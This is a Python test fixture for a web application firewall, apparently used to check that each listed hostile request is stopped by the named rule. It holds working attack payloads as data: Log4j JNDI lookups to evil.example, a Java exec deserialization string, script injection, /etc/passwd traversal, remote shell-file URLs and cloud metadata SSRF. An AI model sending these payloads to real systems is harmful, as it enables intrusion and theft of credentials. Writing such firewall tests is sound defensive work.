"""Requests that have no business here, and the rule that ends each."""

import json

from tests.firewall.ordinary import LIMIT
from tests.firewall.request import CorpusRequest

_BROWSER = ("user-agent", "Mozilla/5.0")
_XSS, _LFI, _RFI = "CrossSiteScripting_BODY", "GenericLFI_BODY", "GenericRFI_BODY"
_METADATA, _SIZE = "EC2MetaDataSSRF_BODY", "SizeRestrictions_BODY"


def _attack(name: str, path: str, stopped_by: str, **more: object) -> CorpusRequest:
    return CorpusRequest(name, "attack", path, stopped_by=stopped_by, **more)  # type: ignore[arg-type] # keywords of the class


def _sent(text: str) -> bytes:
    return json.dumps({"title": text}).encode()


_CORE, _BODY = "core-rule-set", "core-body-rules"
_BAD, _LISTED = "known-bad-inputs", "ip-reputation"

ATTACKS: tuple[CorpusRequest, ...] = (
    _attack("a listed address", "/", _LISTED, method="GET", listed=True),
    _attack("Log4j in a header", "/api/sessions", _BAD, method="GET",
            headers=(_BROWSER, ("x-api-version", "${jndi:ldap://evil.example/a}"))),
    _attack("Log4j in a query", "/revenue/daily", _BAD, method="GET",
            query="from=${jndi:ldap://evil.example/}"),
    _attack("Log4j in a form", "/cms/entries", _BAD, body=_sent("${jndi:ldap://evil.example/a}")),
    _attack("Log4j as a message", "/api/chat", _BAD, body=_sent("${jndi:ldap://evil.example/a}")),
    _attack("Java deserialization", "/cms/entries", _BAD,
            body=_sent('(java.lang.Runtime).getRuntime().exec("whoami")')),
    _attack("React deserialization", "/cms/entries", _BAD,
            body=b'{"then": "$1:__proto__:then", "status": "resolved_model"}'),
    _attack("a Host of localhost", "/", _BAD, method="GET",
            headers=(_BROWSER, ("host", "localhost"))),
    _attack("an exploitable path", "/web-inf/web.xml", _BAD, method="GET"),
    _attack("PROPFIND", "/api/sessions", _BAD, method="PROPFIND"),
    _attack("no user agent", "/", _CORE, method="GET", headers=()),
    _attack("a scanner", "/", _CORE, method="GET", headers=(("user-agent", "Nessus"),)),
    _attack("a long query", "/orders/recent", _CORE, method="GET", query="limit=" + "1" * 2_100),
    _attack("a long path", "/" + "a" * 1_100, _CORE, method="GET"),
    _attack("cookies over 10 KB", "/", _CORE, method="GET",
            headers=(_BROWSER, ("cookie", "a=" + "b" * 10_300))),
    _attack("scripting in a query", "/menu/top", _CORE, method="GET",
            query="limit=<script>alert(1)</script>"),
    _attack("scripting in a chat's query", "/stream/chat", _CORE,
            query="q=<script>alert(1)</script>", body=b"{}"),
    _attack("scripting in a cookie", "/", _CORE, method="GET",
            headers=(_BROWSER, ("cookie", "a=<script>alert(1)</script>"))),
    _attack("a file above in a query", "/menu/top", _CORE, method="GET",
            query="limit=../../etc/passwd"),
    _attack("a file above in a path", "/assets/../../etc/passwd", _CORE, method="GET"),
    _attack("a remote file in a query", "/menu/top", _CORE, method="GET",
            query="limit=http://203.0.113.9/x"),
    _attack("the metadata service in a query", "/menu/top", _CORE, method="GET",
            query="url=169.254.169.254/latest/meta-data"),
    _attack("a log file", "/server.log", _CORE, method="GET"),
    _attack("scripting in a form", "/cms/entries", _BODY,
            body=_sent("<script>alert(1)</script>"), counted=frozenset({_XSS})),
    _attack("a file above in a form", "/cms/entries", _BODY,
            body=_sent("../../../etc/passwd"), counted=frozenset({_LFI})),
    _attack("a remote file in a form", "/cms/entries", _BODY,
            body=_sent("http://203.0.113.9/shell.txt"), counted=frozenset({_RFI})),
    _attack("the metadata service in a form", "/cms/entries", _BODY,
            body=_sent("http://169.254.169.254/latest/"), counted=frozenset({_METADATA, _RFI})),
    _attack("a form over 8 KB", "/cms/entries", _BODY, body=b"x" * 8_193,
            counted=frozenset({_SIZE})),
    _attack("a session's list with a body over 8 KB", "/api/sessions", _BODY, body=b"x" * 9_000,
            counted=frozenset({_SIZE})),
    _attack("a chat path as disguise", "/stream/%2e%2e/cms/entries", _BODY,
            body=_sent("<script>alert(1)</script>"), counted=frozenset({_XSS})),
    _attack("a message over the limit", "/api/chat", "chat-body-size", body=b"x" * (LIMIT + 1),
            counted=frozenset({_SIZE})),
    _attack("a stream over the limit", "/stream/chatbot", "chat-body-size",
            body=b"x" * (2 * LIMIT), counted=frozenset({_SIZE})),
    _attack("a disguised path over the limit", "/%61pi/chat", "chat-body-size",
            body=b"x" * (LIMIT + 1), counted=frozenset({_SIZE})),
    _attack("TRACE of the API", "/api/sessions", "api-methods", method="TRACE"),
    _attack("PUT to the API", "/api/chat", "api-methods", method="PUT", body=b"{}"),
    _attack("PUT of a stream", "/stream/chat", "stream-methods", method="PUT"),
    _attack("DELETE of a stream", "/stream/chatbot", "stream-methods", method="DELETE"),
    _attack("POST to a page", "/", "page-methods", body=b"a=1"),
    _attack("POST to a file", "/assets/index.js", "page-methods", body=b"a=1"),
)  # fmt: skip
